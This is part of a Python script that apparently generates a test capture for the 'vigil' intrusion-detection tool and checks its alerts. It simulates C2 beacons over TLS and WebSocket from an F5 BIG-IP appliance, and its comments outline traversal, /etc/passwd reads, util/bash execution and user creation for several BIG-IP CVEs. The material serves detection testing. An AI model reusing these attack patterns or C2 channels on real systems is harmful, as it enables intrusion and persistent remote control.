    s = d.tcp("C2-tls-workers-dev", (BIGIP_MGMT, 53112), ("104.21.48.17", 443), rtt_us=15000)
    s.handshake()
    s.send(pg.tls_client_hello("update-cdn.vigil-demo.workers.dev", alpn=("http/1.1",),
                               label="c2/ch"), ack=False)
    s.send(pg.tls_server_hello(0x1301, label="c2/sh") + pg.tls_change_cipher_spec() +
           pg.tls_application_data(2400, "c2/hs-enc"), from_client=False, think_us=1500)
    s.send(pg.tls_application_data(90, "c2/beacon"), ack=False)
    s.send(pg.tls_application_data(60, "c2/task"), from_client=False, think_us=2500)
    s.close(from_client=True)

    d.group("C3 WebSocket C2 to a published address (cleartext)", gap_ms=500)
    c2 = estate.C2_ADDRESSES[3]
    s = d.tcp("C3-websocket-apisession", (BIGIP_SELF_INT, 53113), (c2, 80), rtt_us=30000)
    s.handshake()
    d.attack(s, pg.http_request("GET", "/rest/apisession", c2, [
        ("User-Agent", GO_UA), ("Connection", "Upgrade"), ("Upgrade", "websocket"),
        ("Sec-WebSocket-Key", WS_KEY), ("Sec-WebSocket-Version", "13")]), [])
    s.send(pg.http_response(101, "Switching Protocols",
                            [("Upgrade", "websocket"), ("Connection", "Upgrade"),
                             ("Sec-WebSocket-Accept", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=")],
                            content_length=False), from_client=False, think_us=3000)
    s.send(b"\x82\x9e" + pg.det_bytes("c3/mask", 4) + pg.det_bytes("c3/frame", 30), ack=False)
    s.send(b"\x82\x10" + pg.det_bytes("c3/reply", 16), from_client=False, think_us=2000)
    s.close(from_client=True)


# What each session raises besides the sids its attack() calls name (those are the
# exploit rules on the request itself): reply rules (flowbit-gated), management-plane
# exposure (external sources, estate-scoped), the behaviour detectors, BRICKSTORM
# egress. Comments say why; signatures/CATALOGUE.md says what each sid is.
EXTRA_ALERTS = {
    # 8490003 mgmt-access: an external host on a management port (8443) of an appliance;
    # 8400206: the management port answered (SYN+ACK) an external host, once per host;
    # 8400200: TMUI reached from outside, once per source; 8400007: fileRead.jsp reached
    # through the traversal; 8400009: /etc/passwd lines in the reply
    "A1-cve-2020-5902-fileread": [8490003, 8400206, 8400200, 8400007, 8400009],
    "A2-cve-2020-5902-tmshcmd": [8490003],
    # port 80 is not a management port: no 8490003 / 8400206; the second request's %3b
    # also matches 8400002
    "A3-cve-2020-5902-encoded": [8400200, 8400007, 8400007, 8400002],
    # 8400000: the HSQL servlet answered the /hsqldb request
    "A4-cve-2020-5902-hsqldb": [8490003, 8400206, 8400200, 8400000],
    # 8400201: iControl REST from outside; 8400130: an X-F5-Auth-Token from outside the
    # admin networks; 8400100: util/bash from outside; 8400012 / 8400102: the runstate reply
    "A5-cve-2022-1388": [8490003, 8400206, 8400201, 8400130, 8400100, 8400012, 8400102],
    # 8400203: the REST auth error sent back to the external client
    "A6-cve-2022-1388-ipv6": [8490003, 8400206, 8400201, 8400130, 8400100, 8400203],
    # 8400022: the token reply to the SSRF login
    "A7-cve-2021-22986": [8490003, 8400201, 8400022],
    # 8400032: the smuggled form creates a user; 8400034: the parser's invalid
    # Transfer-Encoding event on a request to an appliance
    "A8-cve-2023-46747-vlan": [8490003, 8400032, 8400034],
    # the administrator's own util/bash call: an informational audit record
    "B9-icontrol-rest": [8400101],
    # the persistence cookie names a private pool member (10.1.1.100:80) to an internet client
    "B11-http-vip": [8400300],
    # 8400110: an account created through REST from outside; 8400103: a base64-wrapped command
    "P1-rest-user-create": [8490003, 8400130, 8400110, 8400100, 8400103, 8400102],
    "E1-scanner-authn-login": [8490003, 8400206, 8400201, 8400203],
    # 8401002: the appliance resolves a DoH server name
    "C1-dns-doh-bootstrap": [8401002],
    # 8401000: SNI of a DoH server; 8401001: TCP/443 to a DoH resolver address;
    # 8490002: a management address reaching a destination not on the egress allow-list
    "C1-doh-dns-google": [8401000, 8401001, 8490002],
    # 8401110: TLS to a *.workers.dev name from an appliance
    "C2-tls-workers-dev": [8401110, 8490002],
    # 8401200: an appliance (self IP) talks to a published C2 address; 8401300: the
    # WebSocket upgrade to /rest/apisession; hunting: 8401900 Go default user agent,
    # 8401901 WebSocket upgrade from an appliance to outside
    "C3-websocket-apisession": [8401200, 8401300, 8401900, 8401901],
}


def build():
    """Ordinary traffic and attacks alternate, as they would on a real link."""
    d = Demo()
    benign_dns(d)
    benign_web(d)
    attacks_tmui(d)
    benign_tls(d)
    attacks_tmui_more(d)
    benign_mgmt(d)
    attacks_icontrol(d)
    benign_bigip_vip(d)
    attacks_postexploit(d)
    exposure_scan(d)
    brickstorm(d)
    for name, sids in EXTRA_ALERTS.items():
        d.expect(name, sids)
    return d


def run_vigil(vigil, path):
    """vigil over the capture with the shipped rules and the estate: its EVE events."""
    with tempfile.TemporaryDirectory(prefix="vigil-demo-") as tmp:
        argv = [vigil, "-q", "-r", path, "-c", ESTATE, "-l", tmp]
        p = subprocess.run(argv, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           env=dict(os.environ, TZ="UTC"))
        if p.returncode != 0:
            raise SystemExit("vigil exit %d: %s" % (p.returncode, p.stderr.decode()[-600:]))
        with open(os.path.join(tmp, "eve.json")) as f:
            return [json.loads(line) for line in f if line.strip()]


def session_of(d, ev):
    """The generator's flow an EVE record belongs to (by addresses and ports)."""
    a = (ev["src_ip"], ev.get("src_port"), ev["dest_ip"], ev.get("dest_port"))
    for _, f in d.flows:
        i = f.info()
        mine = (i["src_ip"], i.get("src_port"), i["dest_ip"], i.get("dest_port"))
        if a == mine or a == (mine[2], mine[3], mine[0], mine[1]):
            return f.name
    raise SystemExit("no generated flow for %r" % (a,))


def check(d, path, vigil):
    """Cross-checks the alerts declared per session, and every flow's counters, against
    what vigil reports for the written capture."""
    events = run_vigil(vigil, path)
    alerts = []
    got = {}
    for ev in events:
        if ev.get("event_type") != "alert":
            continue
        name = session_of(d, ev)
        sid = ev["alert"]["signature_id"]
        got.setdefault(name, {})
        got[name][sid] = got[name].get(sid, 0) + 1
        alerts.append({"sid": sid, "pcap_cnt": ev["pcap_cnt"], "proto": ev["proto"],
                       "src_ip": ev["src_ip"], "src_port": ev.get("src_port"),
                       "dest_ip": ev["dest_ip"], "dest_port": ev.get("dest_port"),
                       "vlan": ev.get("vlan", []), "session": name})
    want = {}
    for sid, name in d.expected:
        want.setdefault(name, {})
        want[name][sid] = want[name].get(sid, 0) + 1
    if got != want:
        lines = []
        for name in sorted(set(got) | set(want)):
            if got.get(name) != want.get(name):
                lines.append("  %s: declared %s, vigil %s" % (name, want.get(name),
                                                               got.get(name)))
        raise SystemExit("declared alerts differ from vigil's:\n" + "\n".join(lines))
    flows = {session_of(d, ev): ev for ev in events if ev.get("event_type") == "flow"}
    if len(flows) != len(d.flows):
        raise SystemExit("flow count: generator %d, vigil %d" % (len(d.flows), len(flows)))
    for _, f in d.flows:
        i = f.info()
        fl = flows[f.name]["flow"]
        mine = (i["pkts_toserver"], i["pkts_toclient"], i["bytes_toserver"], i["bytes_toclient"])
        theirs = (fl["pkts_toserver"], fl["pkts_toclient"], fl["bytes_toserver"],
                  fl["bytes_toclient"])
        if mine != theirs:
            raise SystemExit("flow %s: generator %s, vigil %s" % (f.name, mine, theirs))
    return alerts


PROTO_NUM = {"TCP": 6, "UDP": 17, "ICMP": 1, "IPv6-ICMP": 58}
PROTO_NAME = {6: "TCP", 17: "UDP", 1: "ICMP", 58: "IPv6-ICMP"}


def expected_json(d, alerts):
    counts = {}
    for a in alerts:
        counts[str(a["sid"])] = counts.get(str(a["sid"]), 0) + 1
    alert_list = sorted(alerts, key=lambda a: (a["pcap_cnt"], a["sid"]))
    sessions = []
    alerted = {n for _, n in d.expected}
    for group, f in d.flows:
        i = f.info()
        i["group"] = group
        i["alerted"] = f.name in alerted
        i["alert_sids"] = sorted({sid for sid, n in d.expected if n == f.name})
        sessions.append(i)
    by_proto = {}
    for _, f in d.flows:
        by_proto[f.proto_name] = by_proto.get(f.proto_name, 0) + 1
    return {
        "description": "vigil demo capture: benign traffic around a BIG-IP plus exploitation "
                       "attempts against its management address; see README.md",
        "pcap": "demo.pcap",
        "rules": "signatures/rules/*.rules (the shipped rule set)",
        "config": "pcaps/estate.yaml",
        "linktype": 1,
        "packets": len(d.cap.packets),
        "bytes": d.cap.total_bytes(),
        "first_ts_us": d.cap.packets[0][0],
        "last_ts_us": d.cap.packets[-1][0],
        "flows": len(d.flows),
        "flows_by_proto": by_proto,
        "alerts": counts,
        "total_alerts": len(alerts),
        "alert_list": alert_list,
        "sessions": sessions,
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--vigil", default=os.path.join(ROOT, "build", "vigil"),
                    help="the vigil binary that checks the declared alerts (default: build/vigil)")
    args = ap.parse_args()
    d = build()
    pcap = os.path.join(HERE, "demo.pcap")
    d.cap.write_pcap(pcap)
    alerts = check(d, pcap, args.vigil)
    exp = expected_json(d, alerts)
    with open(os.path.join(HERE, "expected.json"), "w") as f:
        json.dump(exp, f, indent=1, sort_keys=True)
        f.write("\n")
    print("demo.pcap: %d packets, %d bytes on the wire, %d flows, %d alerts %s" % (
        exp["packets"], exp["bytes"], exp["flows"], exp["total_alerts"],
        json.dumps(exp["alerts"], sort_keys=True)))


if __name__ == "__main__":
    main()
